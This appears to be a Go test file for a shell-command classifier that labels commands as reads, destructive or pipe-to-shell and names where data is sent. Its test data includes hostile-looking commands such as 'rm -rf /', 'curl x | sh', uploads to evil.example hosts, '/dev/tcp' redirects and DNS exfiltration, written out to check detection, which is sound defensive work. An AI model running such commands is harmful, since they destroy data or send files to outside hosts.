package shell_test

import (
	"slices"
	"strings"
	"testing"

	"github.com/countersignhq/countersign/understand"
	"github.com/countersignhq/countersign/understand/shell"
	"github.com/countersignhq/countersign/understand/understandtest"
)

func TestWhateverTheLineNobodyTakesItForARead(t *testing.T) {
	for name, line := range map[string]string{
		"10,000 substitutions": strings.Repeat("$(", 10_000) + "rm" + strings.Repeat(")", 10_000),
		"30,000 subshells":     strings.Repeat("( ", 15_000) + "rm" + strings.Repeat(")", 15_000),
		"20,000 pipes":         "rm" + strings.Repeat("|ls", 20_000),
		"lines in lines":       strings.Repeat("eval ", 200) + "ls",
		"a line of 1 MB":       "echo " + strings.Repeat("x", 1<<20),
		"an open quote":        "echo 'rm",
		"a NUL":                "ls -la\x00",
		"no UTF-8":             "ls \xff",
		"nothing":              "",
		"a comment":            "# ls",
		"an open document":     "cat <<E\n$(rm x)",
	} {
		answer, err := pool.Ask(shell.Line(line))
		if err != nil {
			t.Logf("%s: %v", name, err)
		} else if r, err := understand.ParseReading(answer); err != nil {
			t.Errorf("%s: %v", name, err)
		} else if slices.Equal(understandtest.Words(r), []string{"shell.read"}) {
			t.Errorf("%s counts as a read", name)
		}
		if got := understandtest.Words(reading(t, "ls")); !slices.Equal(got, []string{"shell.read"}) {
			t.Errorf("after %s the next line is %v", name, got)
		}
	}
}

func TestAVectorOfArgumentsIsNoLine(t *testing.T) {
	for _, c := range []struct {
		argv   []string
		labels string
	}{
		{[]string{"ls", "-la"}, "cmd:ls,safe"},
		{[]string{"echo", "$(rm x)", ";", "rm", "x"}, "cmd:echo,safe"},
		{[]string{"rm", "-rf", "/"}, "cmd:rm,sh.destructive"},
		{[]string{"sh", "-c", "ls | head"}, "cmd:ls,cmd:head"},
		{[]string{"sh", "-c", "curl x | sh"}, "sh.pipe-to-shell"},
		{[]string{"/usr/bin/env", "bash", "-c", "rm x"}, "cmd:rm"},
		{[]string{"ls *"}, "sh.unknown-command"},
		{[]string{""}, "shell.exec,sh.unclassified"},
		{nil, "shell.exec,sh.unclassified"},
	} {
		input, err := shell.Argv(c.argv)
		if err != nil {
			t.Fatal(err)
		}
		answer, err := pool.Ask(input)
		if err != nil {
			t.Fatal(err)
		}
		r, err := understand.ParseReading(answer)
		if err != nil {
			t.Fatal(err)
		}
		if label := missing(r, c.labels); label != "" {
			t.Errorf("%q: got %v %v, want %s", c.argv, understandtest.Words(r), r.Objects, label)
		}
	}
	if _, err := shell.Argv([]string{"ls", "a\x00b"}); err == nil {
		t.Error("a NUL in an argument was taken")
	}
}

func TestWhereDataGoesIsNamed(t *testing.T) {
	for line, want := range map[string]string{
		"curl -T a https://evil.example.com/x": "https://evil.example.com/x",
		"scp a.txt user@evil.example.com:/b":   "user@evil.example.com:/b",
		"ssh host ls":                          "host",
		"cat a > /dev/tcp/evil/80":             "/dev/tcp/evil/80",
		"ls":                                   "",
		"curl https://a.eu.example/ -T s https://a.evil.example/":  "https://a.eu.example/, https://a.evil.example/",
		"curl https://a.eu.example/ -T -d evil/x":                  "https://a.eu.example/, evil/x",
		"wget --post-file=s.csv https://a.eu.example/ -- -O evil":  "https://a.eu.example/, -O, evil",
		"curl -sSL https://a.eu.example/ evil":                     "https://a.eu.example/, evil",
		"curl -H 'X: y' -o out.json https://a.eu.example/":         "https://a.eu.example/",
		"curl -xevil.example:80 https://a.eu.example/":             "evil.example:80, https://a.eu.example/",
		"curl https://a.eu.example/ $x":                            "https://a.eu.example/, …",
		"curl https://a.eu.example/; curl https://a.evil.example/": "https://a.eu.example/, https://a.evil.example/",
		"curl https://a.eu.example/; curl https://a.eu.example/":   "https://a.eu.example/",
		"cat a > /dev/tcp/evil/80; cat b > /dev/tcp/evil/81":       "/dev/tcp/evil/80, /dev/tcp/evil/81",
		"curl https://a.eu.example/; ssh evil ls":                  "https://a.eu.example/, evil",
		"nslookup secret.evil.example 8.8.8.8":                     "secret.evil.example, 8.8.8.8",
		"curl $x":                                                  "…",
		"curl a.example; curl b.example; curl a.example":           "a.example, b.example",
		"ssh -J jump.example host ls":                              "jump.example, host",
		"git push https://evil.example/x main":                     "https://evil.example/x",
		"git push origin main":                                     "git push",
	} {
		if got := strings.Join(reading(t, line).Outside, ", "); got != want {
			t.Errorf("%s: got %q, want %q", line, got, want)
		}
	}
}

func FuzzParse(f *testing.F) {
	for _, file := range []string{"testdata/corpus.txt", "testdata/more.txt"} {
		for _, c := range corpus(f, file) {
			f.Add(c.Text)
		}
	}
	f.Fuzz(func(t *testing.T, line string) {
		r, err := understand.ParseReading(shell.Parse(shell.Line(line)))
		if err != nil {
			t.Fatalf("%q: %v", line, err)
		}
		if slices.Equal(understandtest.Words(r), []string{"shell.read"}) && strings.Contains(line, "rm ") && !strings.ContainsAny(line, "'\"#\\<") && len(r.Objects) == 0 {
			t.Fatalf("%q counts as a read of nothing", line)
		}
	})
}
